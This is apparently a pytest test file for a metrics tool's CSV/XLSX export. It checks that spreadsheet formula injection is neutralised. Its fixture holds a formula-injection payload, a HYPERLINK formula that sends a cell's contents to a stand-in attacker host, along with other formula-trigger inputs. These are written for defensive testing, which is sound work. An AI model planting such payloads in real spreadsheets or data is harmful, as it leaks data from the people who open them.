"""Exporting a funnel's weekly metrics to CSV and XLSX, read back as a user's program would."""

import csv
import datetime as dt
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import insert, select

from okrdesk.cli import main
from okrdesk.store.demo import data as demo_data
from okrdesk.store.errors import ExportError, FunnelNotFoundError
from okrdesk.store.funnel.data import funnel_id_by_name
from okrdesk.store.funnel.export import COLUMNS, export_funnel, neutralise
from okrdesk.store.schema import Funnel, FunnelCohortCount, FunnelCount, FunnelStage

HEADER = [
    "week",
    "segment",
    "variant",
    "stage",
    "count",
    "step_conversion",
    "overall_conversion",
    "drop_off",
]
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
WEEK = dt.date(2026, 11, 16)


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def read_xlsx(path: Path) -> list[list[openpyxl.cell.Cell]]:
    workbook = openpyxl.load_workbook(path)
    return [list(row) for row in workbook.active.iter_rows()]


@pytest.fixture
def small_funnel(ws) -> int:
    """A funnel with three stages, one week, hostile source and variant names."""
    with ws.engine.begin() as connection:
        funnel_id = connection.execute(insert(Funnel).values(name="Hostile")).inserted_primary_key[
            0
        ]
        connection.execute(
            insert(FunnelStage),
            [
                {"funnel_id": funnel_id, "name": name, "position": i}
                for i, name in enumerate(["Visit", "@Lead", "Deal"])
            ],
        )
        stage = dict(
            connection.execute(
                select(FunnelStage.name, FunnelStage.id).where(FunnelStage.funnel_id == funnel_id)
            ).all()
        )
        connection.execute(
            insert(FunnelCount).values(week_start=WEEK),
            [
                {"stage_id": stage["Visit"], "segment": HYPERLINK, "variant": "-5", "count": 200},
                {"stage_id": stage["@Lead"], "segment": HYPERLINK, "variant": "-5", "count": 10},
                {"stage_id": stage["Visit"], "segment": "", "variant": "", "count": 0},
                {"stage_id": stage["Deal"], "segment": "", "variant": "", "count": 3},
            ],
        )
    return funnel_id


def export(ws, funnel_id: int, path: Path) -> int:
    with ws.engine.connect() as connection:
        return export_funnel(connection, funnel_id, path)


def test_csv_of_the_demo_funnel(ws, tmp_path):
    with ws.engine.connect() as connection:
        funnel_id = funnel_id_by_name(connection, demo_data.FUNNEL_NAME)
    path = tmp_path / "funnel.csv"
    assert export(ws, funnel_id, path) == 26 * 5 * 6
    rows = read_csv(path)
    assert rows[0] == HEADER == list(COLUMNS)
    assert len(rows) == 1 + 26 * 5 * 6
    first = rows[1:7]
    assert [row[3] for row in first] == list(demo_data.STAGES)
    assert {row[0] for row in first} == {first[0][0]}
    assert dt.date.fromisoformat(first[0][0]).weekday() == 0
    assert first[0][2] == ""  # no variant: an empty cell
    visit, form = first[0], first[1]
    assert visit[5] == "" and visit[6] == "1.0" and visit[7] == ""  # first stage: no step
    assert float(form[5]) == pytest.approx(int(form[4]) / int(visit[4]))
    assert int(form[7]) == int(visit[4]) - int(form[4])
    assert sorted({row[1] for row in rows[1:]}) == sorted(s.name for s in demo_data.SOURCES)


def test_csv_neutralises_text_cells_only(ws, small_funnel, tmp_path):
    path = tmp_path / "hostile.csv"
    assert export(ws, small_funnel, path) == 6
    rows = read_csv(path)
    assert rows[1:] == [
        ["2026-11-16", "", "", "Visit", "0", "", "", ""],
        ["2026-11-16", "", "", "'@Lead", "0", "", "", "0"],
        ["2026-11-16", "", "", "Deal", "3", "", "", "0"],
        ["2026-11-16", "'" + HYPERLINK, "'-5", "Visit", "200", "", "1.0", ""],
        ["2026-11-16", "'" + HYPERLINK, "'-5", "'@Lead", "10", "0.05", "0.05", "190"],
        ["2026-11-16", "'" + HYPERLINK, "'-5", "Deal", "0", "0.0", "0.0", "10"],
    ]


def test_xlsx_stores_text_as_strings_never_as_formulas(ws, small_funnel, tmp_path):
    path = tmp_path / "hostile.xlsx"
    assert export(ws, small_funnel, path) == 6
    rows = read_xlsx(path)
    assert [cell.value for cell in rows[0]] == HEADER
    assert all(cell.data_type != "f" for row in rows for cell in row)
    link = rows[4]
    assert link[1].value == "'" + HYPERLINK and link[1].data_type == "s"
    assert link[2].value == "'-5" and link[2].data_type == "s"
    assert link[0].value.date() == WEEK and link[0].number_format == "yyyy-mm-dd"
    assert [cell.value for cell in link[4:]] == [200, None, 1.0, None]
    lead = rows[5]
    assert lead[3].value == "'@Lead"
    assert [cell.value for cell in lead[4:]] == [10, 0.05, 0.05, 190]
    assert all(cell.data_type == "n" for cell in lead[4:])
    empty = rows[1]
    assert [cell.value for cell in empty[1:3]] == [None, None]


def test_xlsx_of_the_demo_funnel_has_every_row(ws, tmp_path):
    with ws.engine.connect() as connection:
        funnel_id = funnel_id_by_name(connection, demo_data.FUNNEL_NAME)
    path = tmp_path / "funnel.XLSX"
    export(ws, funnel_id, path)
    rows = read_xlsx(path)
    assert len(rows) == 1 + 26 * 5 * 6
    assert [cell.value for cell in rows[1][3:5]] == ["Visit", rows[1][4].value]
    assert isinstance(rows[1][4].value, int) and rows[1][5].value is None


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("google_ads", "google_ads"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise(text, safe):
    assert neutralise(text) == safe


def test_bad_targets_write_nothing(ws, small_funnel, tmp_path):
    with pytest.raises(ExportError, match="txt"):
        export(ws, small_funnel, tmp_path / "funnel.txt")
    with pytest.raises(FunnelNotFoundError):
        export(ws, 999, tmp_path / "funnel.csv")
    folder = tmp_path / "taken.csv"
    folder.mkdir()
    with pytest.raises(OSError):
        export(ws, small_funnel, folder)
    assert not any(p.name.endswith(".part") for p in tmp_path.iterdir())
    assert not any(folder.iterdir())
    assert not (tmp_path / "funnel.txt").exists() and not (tmp_path / "funnel.csv").exists()


def test_a_funnel_fed_by_raw_events_exports_its_activity_view(ws, small_funnel, tmp_path):
    with ws.engine.begin() as connection:
        visit = connection.scalar(
            select(FunnelStage.id).where(
                FunnelStage.funnel_id == small_funnel, FunnelStage.name == "Visit"
            )
        )
        connection.execute(
            insert(FunnelCohortCount).values(
                stage_id=visit, cohort_week=WEEK, segment="cohort only", variant="", count=7
            )
        )
    path = tmp_path / "funnel.csv"
    assert export(ws, small_funnel, path) == 6
    assert all(row[1] != "cohort only" for row in read_csv(path))


def test_an_export_replaces_an_older_file(ws, small_funnel, tmp_path):
    path = tmp_path / "funnel.csv"
    path.write_text("old content\n", encoding="utf-8")
    export(ws, small_funnel, path)
    assert read_csv(path)[0] == HEADER


# --- okrdesk export -------------------------------------------------------------------------


def test_command_writes_the_file(ws, small_funnel, tmp_path, capsys):
    out = tmp_path / "out.xlsx"
    ws.close()
    assert main(["export", str(ws.path), "--funnel", "Hostile", "--out", str(out)]) == 0
    assert capsys.readouterr().out.strip() == f'Funnel "Hostile" written to {out}: 6 rows'
    assert len(read_xlsx(out)) == 7


@pytest.mark.parametrize(
    ("funnel", "out", "message"),
    [
        ("Nowhere", "out.csv", "no funnel named 'Nowhere'"),
        ("Hostile", "out.ods", "written as .csv or .xlsx"),
        ("Hostile", "missing folder/out.csv", "no such file or folder"),
        ("Hostile", "copy.okrdesk/out.csv", "a part of the path is not a folder"),
    ],
)
def test_command_refuses_with_one_line_and_exit_2(
    ws, small_funnel, tmp_path, capsys, funnel, out, message
):
    ws.close()
    before = sorted(p.name for p in tmp_path.iterdir())
    code = main(["export", str(ws.path), "--funnel", funnel, "--out", str(tmp_path / out)])
    assert code == 2
    error = capsys.readouterr().err
    assert error.startswith("okrdesk: ") and message in error
    assert error.count("\n") == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == before


def test_command_refuses_a_missing_workspace(tmp_path, capsys):
    missing = tmp_path / "missing.okrdesk"
    code = main(["export", str(missing), "--funnel", "x", "--out", str(tmp_path / "o.csv")])
    assert code == 2
    assert capsys.readouterr().err.count("\n") == 1
    assert not missing.exists() and not (tmp_path / "o.csv").exists()
